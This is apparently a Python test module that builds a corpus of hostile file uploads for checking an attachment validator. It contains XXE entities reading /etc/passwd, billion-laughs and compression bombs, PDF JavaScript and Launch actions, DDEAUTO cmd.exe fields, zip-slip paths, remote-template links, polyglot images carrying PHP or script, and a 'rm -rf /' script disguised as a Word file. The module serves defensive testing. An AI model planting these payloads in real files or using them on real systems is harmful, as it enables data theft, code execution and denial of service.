"""Files nobody honest sends."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, PngImagePlugin

from tests.attachments.corpus.parts import (
    CONTENT_TYPES,
    DOCUMENT,
    MARK,
    WORKBOOK,
    Sample,
    after_header,
    chunk,
    docx,
    docx_parts,
    object_stream,
    outside,
    package,
    pdf,
    photo,
    png,
    saved,
    xlsx,
)

JPEG = saved(photo(), "JPEG")
PNG = saved(photo(), "PNG")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'


def other_types() -> Iterator[Sample]:
    """Not of the types we take, some under names that say so."""
    yield Sample("nothing", "empty.pdf", b"")
    yield Sample("blanks", "blank.pdf", b" " * 4000)
    yield Sample("page", "page.html", b"<!DOCTYPE html><script>alert(1)</script>")
    yield Sample("page as PDF", "page.pdf", b"<html><script>alert(1)</script>")
    yield Sample("late PDF", "late.pdf", b"\n" + pdf())
    yield Sample("SVG with script", "logo.svg", b'<svg onload="alert(1)"><script/></svg>')
    yield Sample("SVG as PNG", "logo.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>')
    yield Sample("Windows program", "setup.exe", b"MZ\x90\0" + b"\0" * 200)
    yield Sample("program as PDF", "paper.pdf", b"MZ\x90\0" + pdf())
    yield Sample("Linux program", "run.jpg", b"\x7fELF" + b"\0" * 200)
    yield Sample("shell script", "run.docx", b"#!/bin/sh\nrm -rf /\n")
    yield Sample("PHP", "shell.png", MARK)
    yield Sample("GIF", "moving.gif", saved(photo(), "GIF"))
    yield Sample("GIF and JS", "both.jpg", b"GIF89a/*\x00*/=1;alert(1)//" + JPEG)
    yield Sample("BMP", "scan.bmp", saved(photo(), "BMP"))
    yield Sample("TIFF", "scan.tif", saved(photo(), "TIFF"))
    yield Sample("text", "note.txt", "身份证明".encode())
    yield Sample("film", "film.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 100)
    yield Sample("HEIC", "IMG_0001.HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 100)
    yield Sample("HEIC as JPG", "IMG_0002.jpg", b"\0\0\0\x18ftypmif1\0\0\0\0heic" + b"\0" * 90)
    yield Sample("RAR", "files.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 50)
    yield Sample("7z", "files.7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 50)
    yield Sample("GZ", "files.docx", b"\x1f\x8b\x08\0" + b"\0" * 50)
    yield Sample("ZIP", "files.zip", package({"a.txt": "a"}))
    yield Sample("ZIP as Word", "files.docx", package({"a.txt": "a"}))
    yield Sample("OFD", "invoice.ofd", package({"OFD.xml": "<ofd/>"}))
    yield Sample("old Word", "paper.doc", OLE)
    yield Sample("locked Word", "paper.docx", OLE + "EncryptedPackage".encode("utf-16-le"))
    yield Sample("two names", "a\u202efdp.exe", pdf())
    yield Sample("picture as PDF", "picture.pdf", PNG)
    yield Sample("JPG as PNG", "picture.png", JPEG)
    yield Sample("no name", "", pdf())


def papers() -> Iterator[Sample]:
    """PDFs that run, hide or carry something, or are not whole."""
    exe = "<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 4 0 R >> >>"
    names = "<< /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"
    escaped = SCRIPT.replace("JavaScript", "J#61va#53cript")
    yield Sample("encrypted PDF", "a.pdf", pdf(trailer="/Encrypt << /Filter /Standard >>"))
    yield Sample("PDF script", "a.pdf", pdf(SCRIPT))
    yield Sample("PDF script escaped", "a.pdf", pdf(escaped))
    yield Sample("PDF script compressed", "a.pdf", pdf(object_stream(b"5 0 " + SCRIPT.encode())))
    yield Sample("PDF launches", "a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>"))
    yield Sample("PDF with program", "a.pdf", pdf("<< /Type /EmbeddedFile >>", exe, names))
    yield Sample("PDF with film", "a.pdf", pdf("<< /Subtype /RichMedia >>"))
    yield Sample("PDF sends forms", "a.pdf", pdf("<< /S /SubmitForm /F (http://x) >>"))
    yield Sample("PDF moving form", "a.pdf", pdf("<< /XFA 9 0 R >>"))
    yield Sample("PDF cut off", "a.pdf", pdf("(" + "x" * 20000 + ")")[:9000])
    yield Sample("PDF head only", "a.pdf", b"%PDF-1.7\n")
    yield Sample("PDF and ZIP", "a.pdf", pdf(end=package({"a.exe": "MZ"})))
    yield Sample("PDF and page", "a.pdf", pdf(end=b"<html>" + MARK))
    bomb = object_stream(b"\0" * 80_000_000)
    yield Sample("PDF bomb", "a.pdf", pdf(bomb))
    broken = object_stream(b"x").replace(b"x\x9c", b"\0\0").replace(b"x\xda", b"\0\0")
    yield Sample("PDF broken inside", "a.pdf", pdf(broken))
    hidden = object_stream(b"5 0 " + SCRIPT.encode(), "/Filter /LZWDecode")
    yield Sample("PDF unreadable inside", "a.pdf", pdf(hidden))
    yield Sample("PDF as Word", "a.docx", pdf())


def pictures() -> Iterator[Sample]:
    """Pictures too large or broken, or more than pictures."""
    yield Sample("50,000 square PNG", "big.png", png(50_000, 50_000))
    yield Sample("long PNG", "long.png", png(400_000, 100))
    yield Sample("60 million grey 16 bit", "deep.png", png(7_000, 9_000, 16))
    at = JPEG.find(b"\xff\xc0")
    wide = JPEG[: at + 5] + struct.pack(">HH", 60_000, 60_000) + JPEG[at + 9 :]
    yield Sample("60,000 square JPEG", "big.jpg", wide)
    progressive = saved(photo(), "JPEG", progressive=True)
    at = progressive.find(b"\xff\xc2")
    large = progressive[: at + 5] + struct.pack(">HH", 9_000, 9_000) + progressive[at + 9 :]
    yield Sample("large progressive JPEG", "big.jpg", large)
    webp = bytearray(saved(photo(), "WEBP", lossless=True))
    webp[21:25] = struct.pack("<L", 16_382 | 16_382 << 14)
    yield Sample("large WebP", "big.webp", bytes(webp))
    yield Sample("JPEG cut off", "cut.jpg", JPEG[: len(JPEG) // 2])
    yield Sample("PNG cut off", "cut.png", PNG[: len(PNG) // 2])
    yield Sample("WebP cut off", "cut.webp", saved(photo(), "WEBP")[:200])
    yield Sample("JPEG head only", "head.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 30)
    yield Sample("PNG head only", "head.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 30)
    broken = bytearray(PNG)
    broken[PNG.find(b"IDAT") + 8] ^= 0xFF
    yield Sample("PNG broken", "broken.png", bytes(broken))
    text = zlib.compress(b"\0" * 100_000_000, 9)
    bomb = chunk(b"zTXt", b"k\0\0" + text)
    yield Sample("PNG text bomb", "text.png", png(10, 10, 8, bomb))


def to_clean() -> Iterator[Sample]:
    """Pictures that are fine once drawn anew."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif.get_ifd(0x8825).update({1: "N", 2: (28.0, 41.0, 0.0), 3: "E", 4: (115.0, 53.0, 0.0)})
    note = PngImagePlugin.PngInfo()
    note.add_text("Comment", MARK.decode())
    xmp = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + MARK + b"</x:xmpmeta>"
    profile = b"ICC_PROFILE\0\x01\x01" + MARK * 4
    for what, name, content in (
        ("JPEG, then PHP", "a.jpg", JPEG + MARK),
        ("JPEG, then page", "a.jpg", JPEG + b"<html>" + MARK + b"</html>"),
        ("JPEG, then ZIP", "a.jpg", JPEG + package({"x": MARK}, zipfile.ZIP_STORED)),
        ("JPEG, PHP in comment", "a.jpg", after_header(JPEG, 0xFE, MARK)),
        ("JPEG, JS in comment", "a.jpg", after_header(JPEG, 0xFE, b"*/=1;" + MARK + b"/*")),
        ("JPEG, PHP and place in EXIF", "a.jpg", saved(photo(), "JPEG", exif=exif)),
        ("JPEG, script in XMP", "a.jpg", after_header(JPEG, 0xE1, xmp)),
        ("JPEG, PHP in profile", "a.jpg", after_header(JPEG, 0xE2, profile)),
        ("JPEG, PHP in unknown part", "a.jpeg", after_header(JPEG, 0xEC, MARK)),
        ("PNG, PHP in text", "a.png", saved(photo(), "PNG", pnginfo=note)),
        ("PNG, then ZIP", "a.png", PNG + package({"x": MARK}, zipfile.ZIP_STORED)),
        ("PNG, PHP in unknown part", "a.png", png(30, 30, 8, chunk(b"phPp", MARK))),
        ("WebP, PHP in EXIF", "a.webp", saved(photo(), "WEBP", exif=exif)),
        ("WebP, script in XMP", "a.webp", saved(photo(), "WEBP", xmp=xmp)),
    ):
        assert MARK in content, what
        yield Sample(what, name, content, cleaned=True)


def _archive(*entries: tuple[zipfile.ZipInfo | str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in docx_parts({}).items():
            archive.writestr(name, part)
        for entry, content in entries:
            archive.writestr(entry, content)
    return out.getvalue()


def _flagged(content: bytes) -> bytes:
    """The same archive with a password bit on its first part."""
    made = bytearray(content)
    made[made.find(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def _shared_bytes() -> bytes:
    """Two entries that unpack the same bytes, as the densest bombs do."""
    made = bytearray(docx(a__xml=b"<a/>" * 9, b__xml=b"<a/>" * 9))
    first = made.rfind(b"PK\x01\x02", 0, made.rfind(b"PK\x01\x02"))
    second = made.rfind(b"PK\x01\x02")
    made[second + 42 : second + 46] = made[first + 42 : first + 46]
    return bytes(made)


def _huge_directory() -> bytes:
    made = bytearray(docx())
    at = made.rfind(b"PK\x05\x06")
    made[at + 12 : at + 16] = (100_000_000).to_bytes(4, "little")
    return bytes(made)


def _link() -> bytes:
    entry = zipfile.ZipInfo("word/media/link.xml")
    entry.external_attr = 0o120777 << 16
    return _archive((entry, b"/etc/passwd"))


def archives() -> Iterator[Sample]:
    """Office files whose archive plays tricks."""
    inner = docx()
    nested = docx(word__embeddings__b_docx=b"").replace(b"b_docx", b"b.docx")
    deep = package(
        docx_parts(
            {"word/embeddings/a.docx": package(docx_parts({"word/embeddings/b.docx": inner}))}
        )
    )
    named = {
        "bomb": docx(word__media__a_xml=b"\0" * 250_000_000),
        "dense part": docx(word__big_xml=b" " * 50_000_000),
        "many parts": package(docx_parts({f"p{n}.xml": "<a/>" for n in range(5001)})),
        "nested ZIP": docx(word__embeddings__a=package({"a": package({"b": "b"})})),
        "nested twice": deep,
        "empty inside": nested,
        "ZIP by its name": docx_with("word/a.zip", b"PK"),
        "slip": docx_with("../../evil.xml", b"<a/>"),
        "slip with \\": docx_with("..\\..\\evil.xml", b"<a/>"),
        "absolute": docx_with("/etc/cron.d/evil.xml", b"<a/>"),
        "drive": docx_with("C:evil.xml", b"<a/>"),
        "link": _link(),
        "shared bytes": _shared_bytes(),
        "huge list": _huge_directory(),
        "password": _flagged(docx()),
        "doubled": docx_with("word/Document.xml", DOCUMENT.encode()),
        "two kinds": docx_with("xl/workbook.xml", WORKBOOK.encode()),
        "cut off": docx()[:120],
        "broken": docx().replace(b"PK\x03\x04", b"PK\x03\x05", 1).replace(b"\x05", b"\x04", 1)[:-5],
        "program first": b"MZ" + docx(),
    }
    for what, content in named.items():
        yield Sample(f"Word: {what}", "a.docx", content)


def docx_with(name: str, content: bytes) -> bytes:
    """A Word file with a part of this very name."""
    return package(docx_parts({name: content}))


RELATIONS = "word/_rels/settings.xml.rels"


def _outside(kind: str, target: str) -> bytes:
    return docx_with(RELATIONS, outside(kind, target).encode())


def programs() -> Iterator[Sample]:
    """Word files that run, load or read something when they open."""
    types = CONTENT_TYPES.replace("application/xml", "application/vnd.ms-office.vbaProject")
    enabled = "application/vnd.ms-word.document.macroEnabled.main+xml"
    macro = CONTENT_TYPES.replace("application/xml", enabled)
    renamed = docx_parts({"[Content_Types].xml": types, "word/a.xml": "<a/>"})
    for what, content in (
        ("macro", docx_with("word/vbaProject.bin", OLE)),
        ("macro under another name", package(renamed)),
        ("DOCM renamed", package(docx_parts({"[Content_Types].xml": macro}))),
        ("ActiveX", docx_with("word/activeX/activeX1.xml", b"<a/>")),
        ("OLE object", docx_with("word/embeddings/oleObject1.bin", OLE)),
        ("program inside", docx_with("word/embeddings/run.exe", b"MZ")),
        ("page inside", docx_with("word/a.html", MARK)),
        ("outside template", _outside("attachedTemplate", "http://x/a.dotm")),
        ("template on a share", _outside("attachedTemplate", "file://\\\\x\\a.dotm")),
        ("outside object", _outside("oleObject", "https://x/a")),
        ("outside frame", _outside("frame", "http://x/a.html")),
        ("outside part", _outside("subDocument", "\\\\x\\a.docx")),
    ):
        yield Sample(f"Word: {what}", "a.docx", content)


def markup() -> Iterator[Sample]:
    """Office files whose XML reaches out, and tables that run something."""
    words = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
    dde = DOCUMENT.replace("证明材料", f"</w:t><w:instrText>{words}</w:instrText><w:t>")
    utf16 = b"\xff\xfe" + XXE.encode("utf-16-le")
    utf7 = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>'
    for what, content in (
        ("XXE", docx_with("word/document.xml", XXE.encode())),
        ("XXE in relations", docx_with(RELATIONS, XXE.encode())),
        ("XXE in UTF-16", docx_with("word/styles.xml", utf16)),
        ("hidden encoding", docx_with("word/styles.xml", utf7)),
        ("billion laughs", docx_with("word/styles.xml", LAUGHS.encode())),
        ("DDE", docx_with("word/document.xml", dde.encode())),
    ):
        yield Sample(f"Word: {what}", "a.docx", content)
    link = '<externalLink xmlns="urn:x"><ddeLink ddeService="cmd"/></externalLink>'
    yield Sample("Excel: macro", "a.xlsx", xlsx({"xl/vbaProject.bin": OLE}))
    yield Sample("Excel: XXE", "a.xlsx", xlsx({"xl/sharedStrings.xml": XXE}))
    yield Sample("Excel: DDE", "a.xlsx", xlsx({"xl/externalLinks/externalLink1.xml": link}))
    yield Sample("Excel: as Word", "a.docx", xlsx({}))


def all_hostile() -> list[Sample]:
    """Every one of them."""
    made = (other_types, papers, pictures, to_clean, archives, programs, markup)
    return [sample for family in made for sample in family()]
